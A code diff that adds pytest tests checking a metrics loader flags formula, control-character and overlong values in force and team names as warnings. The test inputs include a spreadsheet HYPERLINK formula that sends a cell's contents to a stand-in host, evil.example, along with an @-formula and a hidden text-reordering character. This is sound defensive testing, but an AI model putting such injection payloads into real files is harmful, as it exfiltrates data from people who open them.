@@ -235,3 +235,44 @@ def test_every_csv_writer_under_metrics_neutralises_cells() -> None:
         if ".to_csv(" in text and "safe_frame(" not in text and "write_csv(" not in text:
             offenders.append(str(path.relative_to(REPO)))
     assert not offenders, "write CSV with metrics.safe_csv.write_csv: " + ", ".join(offenders)
+
+
+@pytest.mark.parametrize("force, team", [
+    ('=HYPERLINK("http://evil.example/?d="&A1,"x")', None),
+    (None, "Team \u202eevil"),
+    (None, "@SUM(1+1)"),
+    (None, "T" * 201),
+    (None, "Team\x07bell"),
+])
+def test_validation_warns_about_formula_control_and_overlong_names(tmp_path, force, team):
+    """Issue 15 item 3: force, team and id values that a spreadsheet would run, that hide or
+    reorder text, or that are too long are a warning (rows kept), naming no value."""
+    import shutil
+
+    import pyarrow.parquet as pq
+
+    from metrics.load import load_dataset
+
+    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
+    out = tmp_path / "export"
+    shutil.copytree(sample, out)
+    cases = pq.read_table(out / "cases.parquet").to_pandas()
+    if force is not None:
+        cases["force"] = cases["force"].astype(object).replace("Durham Constabulary", force)
+    if team is not None:
+        first = sorted(cases["team"].dropna().astype(str).unique())[0]
+        cases["team"] = cases["team"].astype(object).replace(first, team)
+    cases.to_parquet(out / "cases.parquet", index=False)
+    report = load_dataset(out).report
+    found = [p for p in report.warnings if p.rule == "suspicious_text"]
+    assert found and found[0].file == "cases.parquet" and found[0].rows > 0
+    assert found[0].column == ("force" if force is not None else "team")
+    assert report.usable
+    assert all((force or team) not in p.message for p in report.problems)
+
+
+def test_the_sample_has_no_suspicious_names():
+    from metrics.load import load_dataset
+
+    sample = Path(__file__).resolve().parents[2] / "data" / "sample"
+    assert not [p for p in load_dataset(sample).report.problems if p.rule == "suspicious_text"]
